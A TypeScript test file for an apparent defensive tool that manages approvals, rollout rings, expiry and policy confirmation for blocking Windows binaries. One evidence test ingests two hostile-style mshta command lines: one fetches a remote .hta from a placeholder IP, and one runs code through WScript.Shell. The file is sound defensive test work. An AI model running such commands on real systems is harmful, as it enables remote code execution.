import { afterEach, describe, expect, test } from 'vitest'
import { readEvidence } from '@/lib/pipeline/decision/evidence'
import { CONTROLS } from '@/lib/pipeline/event/event'
import { listBlocks } from '@/lib/store/blocks'
import { pool } from '@/lib/store/pool'
import { prisma } from '@/lib/store/prisma'
import { loadDecision } from '@/lib/store/screens/decision/detail'
import { examplePerson } from '../example-person'
import { ingestExamples } from '../ingest/example-use'
import { recompute } from '../recompute/recompute'
import { breakGlass } from './break-glass'
import { changeDecisionSettings } from './change-decision-settings'
import { decide } from './decide'
import {
  actionsOn,
  exampleDraft,
  exampleFleet,
  exampleProposal,
  exampleUse,
  stateOf,
} from './example-decisions'
import { expireDecisions } from './expire-decisions'
import { moveRing } from './move-ring'
import { startAudit } from './start-audit'
import { watchDecisions } from './watch-decisions'

const actor = exampleFleet()
const approve = (name: string, id: number, version: number) =>
  decide(actor(name), { id, version, move: 'approve', comment: '' })
const shown = async (id: number) => {
  const found = await loadDecision({ kind: 'all' }, id, {
    accountId: actor('mia').accountId,
    mayDecide: true,
  })
  if (found === null) throw new Error(`no decision ${id}`)
  return found
}
const enforced = async () => {
  const id = await exampleProposal(actor('ada'))
  await approve('mia', id, 1)
  const { id: ringId } = await prisma().decisionRing.findFirstOrThrow({ where: { decisionId: id } })
  await moveRing(actor('mia'), { id, version: 2, ringId, move: 'enforce', reason: 'go' })
  return { id, ringId }
}

describe('an approval that became stale', () => {
  test('the first of two counts for nothing once its giver may no longer decide, and the page says so', async () => {
    const admin = await examplePerson('root', 'admin')
    await changeDecisionSettings(admin, { twoForFleet: true })
    const mia = { where: { id: actor('mia').accountId } }
    const third = await examplePerson('moe', 'manager')
    const id = await exampleProposal(actor('ada'))
    await approve('mia', id, 1)
    for (const lost of [{ role: 'responder' }, { role: 'manager', disabledAt: new Date() }]) {
      await prisma().account.update({ ...mia, data: lost })
      expect((await shown(id)).approvals).toMatchObject([{ name: 'mia', counts: false }])
    }
    await approve('max', id, 2)
    expect(await stateOf(id)).toBe('proposed')
    await decide(third, { id, version: 3, move: 'approve', comment: '' })
    expect(await stateOf(id)).toBe('approved')
    await prisma().account.update({ ...mia, data: { role: 'manager', disabledAt: null } })
    await changeDecisionSettings(admin, { twoForFleet: false })
  })
  test('where one is enough meanwhile, who gave the first may conclude', async () => {
    const admin = await examplePerson('ruth', 'admin')
    await changeDecisionSettings(admin, { twoForFleet: true })
    const id = await exampleProposal(actor('ada'))
    await approve('mia', id, 1)
    await changeDecisionSettings(admin, { twoForFleet: false })
    await approve('mia', id, 2)
    expect(await stateOf(id)).toBe('approved')
  })
})

describe('what one decision does to the others', () => {
  test('a ring without groups is everything else, and neither stops the worker nor the policies', async () => {
    const { id, ringId } = await enforced()
    await expect(
      pool().query('UPDATE decision_ring SET group_ids = NULL WHERE id = $1', [ringId]),
    ).rejects.toThrow(/not-null/)
    await watchDecisions(pool())
    expect((await shown(id)).rings[0]?.watch).toMatchObject({ hosts: 3 })
  })
  test('one that cannot be read is passed over by the worker, and policies are refused without it', async () => {
    const broken = await enforced()
    const whole = await exampleProposal(actor('ada'), {}, 'cmstp.exe')
    await approve('mia', whole, 1)
    const ring = await prisma().decisionRing.findFirstOrThrow({ where: { decisionId: whole } })
    await moveRing(actor('mia'), { id: whole, version: 2, ringId: ring.id, move: 'enforce', reason: 'go' })
    await prisma().decision.update({ where: { id: broken.id }, data: { exceptions: [{ kind: 'moon' }] } })
    await watchDecisions(pool())
    const watched = await prisma().decisionRing.findUniqueOrThrow({ where: { id: ring.id } })
    expect(watched.watchedAt).not.toBeNull()
    await expect(listBlocks(pool(), '2026-02-01')).rejects.toThrow(`decision ${broken.id} cannot be read`)
  })
  test('one that cannot be ended does not keep others from ending', async () => {
    const stuck = await exampleProposal(actor('ada'), { expiresOn: '2099-03-31' })
    await approve('mia', stuck, 1)
    await prisma().decision.update({ where: { id: stuck }, data: { exceptions: { not: 'a list' } } })
    const ends = await exampleProposal(actor('ada'), { expiresOn: '2099-03-31' }, 'cmstp.exe')
    await approve('mia', ends, 1)
    await expireDecisions(new Date('2099-02-01T00:00:00Z'))
    await expireDecisions(new Date('2099-04-01T00:00:00Z'))
    expect(await stateOf(ends)).toBe('expired')
  })
})

test('an emergency block that was taken back before its approval is approved, and enforced nowhere', async () => {
  const block = { slug: 'mshta.exe', effect: 'execution', control: 'edr', reason: 'now' } as const
  const id = await breakGlass(actor('ada'), { ...block, scope: { kind: 'fleet' } })
  const { id: ringId } = await prisma().decisionRing.findFirstOrThrow({ where: { decisionId: id } })
  await moveRing(actor('ada'), { id, version: 0, ringId, move: 'roll-back', reason: 'the tills stood still' })
  await approve('mia', id, 1)
  expect(await stateOf(id)).toBe('approved')
  await moveRing(actor('mia'), { id, version: 2, ringId, move: 'enforce', reason: 'without the tills' })
  expect(await stateOf(id)).toBe('enforced')
})

describe('enforcement is confirmed', () => {
  afterEach(async () => {
    await pool().query('DELETE FROM policy_state')
  })

  /** A block of a control that is enforced on all hosts; answers what the worker sees of it, whenever it is asked. */
  async function enforced(control: 'app-control' | 'asr') {
    const id = await exampleProposal(actor('ada'), { control })
    await approve('mia', id, 1)
    const { id: ringId } = await prisma().decisionRing.findFirstOrThrow({ where: { decisionId: id } })
    await moveRing(actor('mia'), { id, version: 2, ringId, move: 'enforce', reason: 'go' })
    return async () => {
      await pool().query('UPDATE decision_ring SET watched_at = NULL')
      await watchDecisions(pool())
      return (await shown(id)).rings[0]?.watch
    }
  }

  test('by the exported policy’s own id in App Control; another policy confirms nothing, and is said', async () => {
    const watched = await enforced('app-control')
    const none = await watched()
    expect(none).toMatchObject({ confirmed: 0, confirmedBy: 'policy', otherPolicies: 0 })
    const report = { control: 'app-control', detail: null, hoursAgo: 1 } as const
    await reportPolicy('ws-1', { ...report, policyId: '00000000-0000-4000-8000-000000000000' })
    expect(await watched()).toMatchObject({ confirmed: 0, otherPolicies: 1 })
    await reportPolicy('ws-2', { ...report, policyId: none?.policyIds[0] ?? '' })
    expect(await watched()).toMatchObject({ confirmed: 1, otherPolicies: 1 })
  })
  test('by a rule that blocks in Defender, for as long as it is neither set to something else nor taken away', async () => {
    const watched = await enforced('asr')
    const policyId = (await watched())?.policyIds[0] ?? ''
    const reports = (host: string, detail: string, hoursAgo: number) =>
      reportPolicy(host, { control: 'asr', policyId, detail, hoursAgo })
    await reports('ws-1', 'Rule = 0x1', 5)
    await reports('ws-2', 'Rule = 0x1', 5)
    await reports('ws-3', 'Rule = 0x2', 5)
    expect(await watched()).toMatchObject({ confirmed: 2, confirmedBy: 'rule', otherPolicies: 1 })
    await reports('ws-1', 'Rule = 0x1 (removed)', 4)
    await reports('ws-2', 'Rule = 0x2', 4)
    expect(await watched()).toMatchObject({ confirmed: 0, otherPolicies: 3 })
    await reports('ws-1', 'Rule = 0x1', 3)
    expect(await watched()).toMatchObject({ confirmed: 1, otherPolicies: 2 })
  })
})

type PolicyReport = {
  control: (typeof CONTROLS)[number]
  policyId: string
  detail: string | null
  hoursAgo: number
}

/** What a control reported on a host of one of its policies. */
async function reportPolicy(host: string, { control, policyId, detail, hoursAgo }: PolicyReport) {
  await pool().query(
    `INSERT INTO policy_state (host_id, occurred_at, id, alias_id, control, state, policy_id, detail, import_file_id)
     SELECT h.id, now() - $5 * interval '1 hour', h.id, a.id, $2, 0, $3, $4, (SELECT min(id) FROM import_file)
     FROM host h JOIN host_alias a ON a.host_id = h.id WHERE h.name = $1 LIMIT 1`,
    [host, CONTROLS.indexOf(control), policyId, detail, hoursAgo],
  )
}

describe('what disappeared', () => {
  test('a decision on a host that was deleted is shown, judged and blocks nothing', async () => {
    const { id: hostId } = await prisma().host.create({ data: { name: 'gone-1' } })
    const id = await exampleProposal(actor('ada'), { scope: { kind: 'hosts', ids: [hostId] } })
    await prisma().host.delete({ where: { id: hostId } })
    expect(await shown(id)).toMatchObject({ where: 'hosts that are gone', now: { hosts: 0 } })
    await approve('mia', id, 1)
    expect(await listBlocks(pool(), '2026-02-01')).toMatchObject([{ decisionId: id, hosts: [] }])
  })
  test('an account with decisions cannot be deleted: what it did keeps its name', async () => {
    const gone = await examplePerson('gus', 'responder')
    const id = await exampleProposal(gone)
    await expect(prisma().account.delete({ where: { id: gone.accountId } })).rejects.toThrow()
    await prisma().account.update({ where: { id: gone.accountId }, data: { disabledAt: new Date() } })
    expect(await shown(id)).toMatchObject({ proposedBy: 'gus', authorGone: true })
  })
})

describe('what the evidence has to say', () => {
  test('patterns judged malicious, or still open, are said before anything else', async () => {
    const id = await exampleProposal(actor('ada'))
    await ingestExamples(pool(), [
      exampleUse('ws-1', 6, 'mshta.exe http://203.0.113.9/a.hta'),
      exampleUse('ws-1', 6, 'mshta.exe javascript:new%20ActiveXObject("WScript.Shell").Run("calc")'),
    ])
    await recompute(pool())
    await pool().query("UPDATE deviation SET state = 'malicious' WHERE id = (SELECT min(id) FROM deviation)")
    const { concerns, changes } = await shown(id)
    expect(concerns.map(({ key }) => key)).toEqual(expect.arrayContaining(['malicious', 'open']))
    expect(changes.map(({ key }) => key)).toContain('malicious')
    await expect(approve('mia', id, 1)).rejects.toThrow(/judged malicious/)
  })
  test('without history nothing is suggested, then and now, and the proposal keeps that', async () => {
    const { id: hostId } = await prisma().host.create({ data: { name: 'new-1' } })
    const id = await exampleProposal(actor('ada'), { scope: { kind: 'hosts', ids: [hostId] } })
    const { evidence, concerns, now } = await shown(id)
    expect(concerns.map(({ key }) => key)).toContain('no-history')
    for (const known of [evidence, now]) {
      expect(known?.suggestion?.verdict).toBeNull()
      expect(known?.suggestion?.reasons[0]).toMatch(/^Nothing is suggested/)
    }
  })
  test('what was suggested is frozen with the proposal and with the approval', async () => {
    const id = await exampleProposal(actor('ada'))
    await approve('mia', id, 1)
    const { evidence, decidedEvidence } = await prisma().decision.findUniqueOrThrow({ where: { id } })
    for (const kept of [evidence, decidedEvidence])
      expect(readEvidence(kept)?.suggestion?.reasons[0]).toMatch(
        /^Nothing is suggested: the history is 2 days/,
      )
  })
})

test('a clock that jumps forward ends a decision once, and one that jumps back revives nothing', async () => {
  const id = await exampleProposal(actor('ada'), { expiresOn: '2099-03-31' })
  await approve('mia', id, 1)
  for (const at of ['2199-01-01', '1999-01-01', '2199-01-01'])
    await expireDecisions(new Date(`${at}T00:00:00Z`))
  expect(await stateOf(id)).toBe('expired')
  expect((await actionsOn(id)).filter((action) => action === 'decision-expired')).toHaveLength(1)
})

describe('what Windows does not work without', () => {
  test('is neither proposed nor audited nor blocked in an emergency; that it stays is', async () => {
    const refused = {
      code: 'invalid-input',
      message: expect.stringContaining('Windows does not work without'),
    }
    await expect(exampleProposal(actor('ada'), {}, 'explorer.exe')).rejects.toMatchObject(refused)
    const draft = await exampleDraft(actor('ada'), {}, 'explorer.exe')
    await expect(startAudit(actor('ada'), draft)).rejects.toMatchObject(refused)
    const emergency = { slug: 'explorer.exe', effect: 'execution', control: 'applocker' } as const
    await expect(
      breakGlass(actor('ada'), { ...emergency, scope: { kind: 'fleet' }, reason: 'It is on fire.' }),
    ).rejects.toMatchObject(refused)
    await exampleProposal(actor('ada'), { verdict: 'required', effect: null, control: null }, 'explorer.exe')
  })
})
